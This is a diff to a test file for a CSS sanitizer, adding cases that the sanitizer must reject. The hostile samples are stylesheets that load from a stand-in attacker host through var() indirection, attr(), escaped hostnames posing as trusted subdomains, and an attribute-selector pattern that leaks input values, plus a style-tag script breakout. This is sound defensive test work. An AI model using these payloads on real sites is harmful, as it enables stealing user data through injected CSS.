@@ -20,6 +20,7 @@ TRUSTED = {"image": ["https://cdn.example.com"], "style": ["https://*.fonts.exam
         ".a{background:url(data:image/png;base64,AAAA)}",
         '.a{background:url("https://cdn.example.com/a.png")}',
         ".a{background:image-set('https://cdn.example.com/a.png' 1x)}",
+        ".a{background:image-set(linear-gradient(var(--accent), white) 1x)}",
         "@import 'https://one.fonts.example/a.css';",
         '.a::before{content:"</style><script>alert(1)</script>"}',
         ".a::before{content:'\\3c /style\\3e '}",
@@ -50,6 +51,11 @@ def test_what_loads_nothing_from_elsewhere_is_taken(css: str) -> None:
         (".a{background:url(' \thttps://evil.example/a')}", "stylesheet_url"),
         (".a{background:image-set('https://evil.example/a' 1x)}", "stylesheet_url"),
         (".a{--x:url(https://evil.example/a)}", "stylesheet_url"),
+        (".a{--x:'https://evil.example/a';background:image-set(var(--x) 1x)}", "stylesheet_url"),
+        (".a{background:-webkit-image-set(VAR(--x, 'https://evil.example/a') 1x)}", "stylesheet_url"),
+        (".a{background:src(attr(data-x))}", "stylesheet_url"),
+        (".a{background:url('https://evil.example\\\\.fonts.example/a')}", "stylesheet_url"),
+        ("@import 'https://evil.example\\\\.fonts.example/a.css';", "stylesheet_import"),
         ("input[value^=a]{background:url(https://evil.example/?a)}", "stylesheet_url"),
         ("@font-face{src:url(https://evil.example/f.woff2)}", "stylesheet_url"),
         (".a{background:url(data:text/html,x)}", "stylesheet_url"),
@@ -110,5 +116,11 @@ def test_anything_else_is_no_site(text: str) -> None:
 
 def test_a_site_covers_its_host_or_its_subdomains_alone() -> None:
     assert covers(["https://*.example.com"], "https://a.example.com/x")
-    for other in ("https://example.com/x", "https://aexample.com", "http://a.example.com", "https://a.example.com:8"):
+    for other in (
+        "https://example.com/x",
+        "https://aexample.com",
+        "http://a.example.com",
+        "https://a.example.com:8",
+        "https://evil.example\\.example.com/x",
+    ):
         assert not covers(["https://*.example.com"], other)
